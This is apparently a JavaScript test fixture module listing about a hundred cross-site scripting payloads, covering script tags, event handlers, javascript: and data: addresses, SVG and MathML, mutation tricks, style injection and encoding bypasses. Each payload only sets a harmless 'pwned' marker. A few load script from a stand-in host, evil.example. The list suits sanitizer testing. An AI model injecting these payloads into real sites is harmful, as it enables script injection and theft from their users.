// What hostile pages try, by the known classes, in words of our own. Each sets `pwned` where it runs.
const run = 'pwned=1';
const encoded = [...run].map((letter) => `&#${letter.charCodeAt(0)};`).join('');

// Markup as it stands in a page.
export const markup = [
  // Script elements, whole, odd and cut.
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script/x>${run}</script>`, `<script\n>${run}</script\n>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`, `<<script>${run}//<</script>`, `<script>${run}`, `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`, `<noscript><p title="</noscript><script>${run}</script>">`,
  // Event handlers.
  `<img src=x onerror=${run}>`, `<img src=x OnErRoR="${run}">`, `<img/src=x/onerror=${run}>`, `<img src=x\fonerror=${run}>`, `<img src=x onerror\n=\n${run}>`,
  `<img src='x'onerror='${run}'>`, `<img src=x onerror=${encoded}>`, `<body onload=${run}>`, `<p onmouseover=${run}>chữ</p>`,
  `<details open ontoggle=${run}>chữ</details>`, `<input autofocus onfocus=${run}>`, `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`, `<marquee onstart=${run}>chữ</marquee>`, `<p style="animation:x 1s" onanimationstart=${run}>chữ</p>`,
  `<a href="x" onpointerenter=${run}>chữ</a>`, `<img src=x:x onerror=${run}//`, '<img """><script>' + run + '</script>">',
  // Addresses that run.
  `<a href="javascript:${run}">chữ</a>`, `<a href=" javascript:${run}">chữ</a>`, `<a href="JaVaScRiPt:${run}">chữ</a>`,
  `<a href="java\tscript:${run}">chữ</a>`, `<a href="java&Tab;script:${run}">chữ</a>`, `<a href="java&NewLine;script&colon;${run}">chữ</a>`,
  `<a href="&#x6A;avascript:${run}">chữ</a>`, `<a href="&#0000106avascript:${run}">chữ</a>`, `<a href="\x01javascript:${run}">chữ</a>`,
  `<a href="javascript&#58${run}">chữ</a>`, `<a href="vbscript:${run}">chữ</a>`, `<a href="data:text/html,<script>${run}</script>">chữ</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+">chữ</a>`, `<a href="feed:javascript:${run}">chữ</a>`,
  `<a href="view-source:javascript:${run}">chữ</a>`, `<a href="blob:null/${run}">chữ</a>`, `<a href="https:javascript:${run}">chữ</a>`,
  `<img src="javascript:${run}">`, `<img srcset="javascript:${run} 1x">`, `<img src="data:image/svg+xml,<svg onload=${run}>">`,
  `<form action="javascript:${run}"><button>chữ</button></form>`, `<button form=f formaction="javascript:${run}">chữ</button>`,
  `<table background="javascript:${run}"><tr><td>chữ</td></tr></table>`, `<video poster="javascript:${run}"></video>`, `<q cite="javascript:${run}">chữ</q>`,
  // Documents within the document.
  `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
  `<object data="javascript:${run}"></object>`, `<embed src="data:text/html,<script>${run}</script>">`, `<applet code=x></applet>`, `<frameset onload=${run}>`,
  `<portal src="javascript:${run}"></portal>`, `<template><script>${run}</script></template>`,
  // SVG and MathML.
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><a xlink:href="javascript:${run}"><text y=9>chữ</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x></svg>`, `<svg><set attributeName=href to="javascript:${run}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`, `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`, `<svg><title><script>${run}</script></title></svg>`,
  `<math><a xlink:href="javascript:${run}">chữ</a></math>`, `<math href="javascript:${run}">chữ</math>`,
  // Markup that changes when it is written and read again.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;"></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>"></svg>`, `<noembed><img alt="</noembed><img src=x onerror=${run}>"></noembed>`,
  `<xmp><img alt="</xmp><img src=x onerror=${run}>"></xmp>`, `<textarea><img alt="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><img alt="</title><img src=x onerror=${run}>"></title>`, `<plaintext><img src=x onerror=${run}>`, `<select><option><style></option></select><img src=x onerror=${run}></style>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`, `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<!--><img src=x onerror=${run}>-->`, `<!-- --!><img src=x onerror=${run}> -->`, `<![CDATA[><img src=x onerror=${run}>]]>`, `<?xml ><img src=x onerror=${run}>?>`,
  `<p title="\`><img src=x onerror=${run}>">chữ</p>`, `<img alt="<x" title="/><img src=x onerror=${run}>">`,
  // Style, and what steers the page.
  `<style>@import "javascript:${run}";</style>`, `<p style="background:url(javascript:${run})">chữ</p>`, `<p style="width:expression(${run})">chữ</p>`,
  `<link rel=stylesheet href="javascript:${run}">`, `<link rel=import href="//evil.example">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`, `<base href="//evil.example/">`, `<a id=keys name=keys href=x>chữ</a>`,
  // Bytes and letters.
  `\ufeff<script>${run}</script>`, `<scri\0pt>${run}</scri\0pt>`, `＜script＞${run}＜/script＞`, `%3Cscript%3E${run}%3C/script%3E`, `\\u003cscript\\u003e${run}`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\u202e<script>${run}</script>`, `ſcript:${run}`, `{{constructor.constructor('${run}')()}}`,
];

// The same as words: what a reader of a headline, a name or a tag would print.
export const words = [...markup, `"><script>${run}</script>`, `'><img src=x onerror=${run}>`, `" onmouseover="${run}`, `' onfocus='${run}' autofocus='`,
  `"/><svg/onload=${run}>`, `</title><script>${run}</script>`, `</script><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`,
  `javascript:${run}`, `&lt;script&gt;${run}&lt;/script&gt;`, `&amp;lt;img src=x onerror=${run}&amp;gt;`, `\x02<b>\x03${run}`];
